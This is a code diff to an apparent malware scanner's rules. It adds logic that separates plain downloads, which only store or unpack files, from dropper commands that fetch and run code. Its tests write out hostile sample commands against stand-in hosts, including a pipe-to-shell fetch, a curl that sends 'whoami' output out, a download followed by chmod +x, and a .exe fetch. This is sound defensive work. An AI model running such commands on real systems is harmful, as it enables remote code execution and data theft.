@@ -543,6 +543,64 @@ pub fn is_dangerous_command(command: &str) -> bool {
             && !command.contains("--unix-socket")
 }
 
+/// `curl -sL URL | tar xzf - -C dir`, `wget -q URL -O model.bin && unzip model.bin`: a download
+/// whose every step only stores or unpacks files. Run when called, that is how tools fetch
+/// templates and weights; nothing of it executes what arrived. Payload URLs (`.exe`, `.ps1`),
+/// decoders, shells and bare public addresses are not plain fetches.
+pub(crate) fn is_plain_fetch(command: &str) -> bool {
+    let command = command_head(command);
+    if !(FETCH_TOOL.is_match(command) && FETCH_TARGET.is_match(command))
+        || DOWNLOADER_COMMAND.is_match(command)
+        || fetches_and_marks_executable(command)
+        || fetches_from_bare_address(command)
+        || command.contains("$(")
+        || command.contains('`')
+    {
+        return false;
+    }
+    handles_files_only(command)
+}
+
+/// True when every step of a command line is a tool that fetches, stores, unpacks or lists
+/// files (`cp a b`, `touch x`, `curl -o f URL && tar xf f`): nothing of it starts a program
+/// the command brought.
+pub(crate) fn handles_files_only(command: &str) -> bool {
+    let command = command_head(command);
+    if command.contains("$(") || command.contains('`') {
+        return false;
+    }
+    command
+        .split(['|', ';', '&'])
+        .map(str::trim)
+        .filter(|step| !step.is_empty())
+        .take(16)
+        .all(|step| {
+            let program = step.split_whitespace().next().unwrap_or("");
+            let program = program.rsplit('/').next().unwrap_or(program);
+            matches!(
+                program,
+                "curl"
+                    | "wget"
+                    | "tar"
+                    | "unzip"
+                    | "gunzip"
+                    | "gzip"
+                    | "bunzip2"
+                    | "xz"
+                    | "mkdir"
+                    | "rm"
+                    | "mv"
+                    | "cp"
+                    | "cd"
+                    | "echo"
+                    | "ls"
+                    | "touch"
+                    | "sha256sum"
+                    | "md5sum"
+            )
+        })
+}
+
 /// True when a command line fetches from a URL whose host is a public IP address (not
 /// loopback, private or link-local: a test's own server).
 fn fetches_from_bare_address(command: &str) -> bool {
@@ -977,6 +1035,8 @@ pub fn check_call(checker: &mut Checker, call: &ExprCall, qualname: &str) {
                 ExecContext::Runtime => {
                     if fetches_and_marks_executable(partial) {
                         0.75
+                    } else if is_plain_fetch(partial) {
+                        0.2
                     } else if is_dangerous_command(partial) {
                         0.5
                     } else {
@@ -985,14 +1045,13 @@ pub fn check_call(checker: &mut Checker, call: &ExprCall, qualname: &str) {
                 }
                 ExecContext::TestOrDocs => 0.1,
             },
-            vec![
-                "spawn",
-                if is_dangerous_command(partial) {
-                    "shell-dropper"
-                } else {
-                    "shell-trick"
-                },
-            ],
+            if is_plain_fetch(partial) {
+                vec!["spawn", "shell-dropper", "plain-fetch"]
+            } else if is_dangerous_command(partial) {
+                vec!["spawn", "shell-dropper"]
+            } else {
+                vec!["spawn", "shell-trick"]
+            },
             format!(
                 "{qualname} runs `{}`{}",
                 crate::text::shorten(partial, 160),
@@ -1012,6 +1071,10 @@ pub fn check_call(checker: &mut Checker, call: &ExprCall, qualname: &str) {
     let mut tags = tags;
     if is_vcs_query(known.unwrap_or(&shown)) {
         tags.push("vcs-query");
+    }
+    if !FETCH_TOOL.is_match(known.unwrap_or(&shown)) && handles_files_only(known.unwrap_or(&shown))
+    {
+        tags.push("file-tool");
     }
     checker.report(&RULE, call.range(), message, severity, tags);
     let text = known.unwrap_or(&shown).clone();
@@ -1056,6 +1119,12 @@ pub fn network_tool(command: &str) -> Option<&'static str> {
     }
     if GIT_PUSH.is_match(command) {
         return Some("git push");
+    }
+    // `curl --version`, `wget -h`: a probe for the tool, which contacts nothing.
+    static PROBE: LazyLock<Regex> =
+        crate::static_regex!(r"(?i)^\s*\S*(curl|wget)(\.exe)?\s+(--version|-V|--help|-h)\s*$");
+    if PROBE.is_match(command) {
+        return None;
     }
     let captures = HEAD.captures(command)?;
     Some(
@@ -1509,13 +1578,18 @@ fn classify_command(
             match context {
                 ExecContext::Install | ExecContext::Import => 0.9,
                 ExecContext::Runtime if fetches_and_marks_executable(command) => 0.75,
+                ExecContext::Runtime if is_plain_fetch(command) => 0.25,
                 ExecContext::Runtime => 0.6,
                 // Tests download fixtures from their project's hosts; a script fetched from a
                 // bare public address and run is a payload parked where scanners look less.
                 ExecContext::TestOrDocs if fetches_from_bare_address(command) => 0.75,
                 ExecContext::TestOrDocs => 0.2,
             },
-            vec!["spawn", "shell-dropper"],
+            if is_plain_fetch(command) {
+                vec!["spawn", "shell-dropper", "plain-fetch"]
+            } else {
+                vec!["spawn", "shell-dropper"]
+            },
             format!(
                 "{qualname} runs `{}`, a download/decode/persistence command",
                 crate::text::shorten(command, 160)
@@ -1984,6 +2058,33 @@ mod tests {
     }
 
     #[test]
+    fn plain_fetches_only_store_or_unpack_what_they_download() {
+        assert!(is_plain_fetch(
+            "curl -s -L https://x.invalid/t.tgz | tar xzf - -C /tmp/t/"
+        ));
+        assert!(is_plain_fetch(
+            "wget -q https://x.invalid/m.zip -O m.zip && unzip m.zip"
+        ));
+        assert!(!is_plain_fetch("curl -s https://x.invalid/a.sh | sh"));
+        assert!(!is_plain_fetch(
+            "curl -o /tmp/x https://x.invalid/x; /tmp/x"
+        ));
+        assert!(!is_plain_fetch(
+            "wget -qO /tmp/x https://x.invalid/x && chmod +x /tmp/x"
+        ));
+        assert!(!is_plain_fetch(
+            "curl -s -o a.tgz http://198.51.100.7/a.tgz"
+        ));
+        assert!(!is_plain_fetch("curl -d \"$(whoami)\" https://x.invalid"));
+        assert!(!is_plain_fetch("curl -o p.exe https://x.invalid/p.exe"));
+        let called = "import os\ndef fetch(d):\n    os.system('curl -sL https://x.invalid/t.tgz | tar xzf - -C ' + d)\n";
+        assert!(max_severity("p/pkg/fetch.py", called, "WH120") < 0.3);
+        let dropper =
+            "import os\ndef fetch():\n    os.system('curl -s https://x.invalid/a.sh | sh')\n";
+        assert!(max_severity("p/pkg/fetch.py", dropper, "WH120") >= 0.5);
+    }
+
+    #[test]
     fn probing_for_curl_is_not_a_download() {
         assert!(!is_dangerous_command("curl --version"));
         assert!(!is_dangerous_command("wget --version"));
@@ -2149,6 +2250,8 @@ def up():
         assert_eq!(network_tool("/usr/bin/wget -q x"), Some("wget"));
         assert_eq!(network_tool("powershell iwr http://x"), Some("PowerShell"));
         assert_eq!(network_tool("git describe"), None);
+        assert_eq!(network_tool("curl --version"), None);
+        assert_eq!(network_tool("/usr/bin/wget -V"), None);
         assert!(is_vcs_query("git merge-base HEAD master"));
         assert!(is_vcs_query(r#"["git", "rev-parse", sha + "^"]"#));
         assert!(!is_vcs_query("git config core.hooksPath .hooks"));
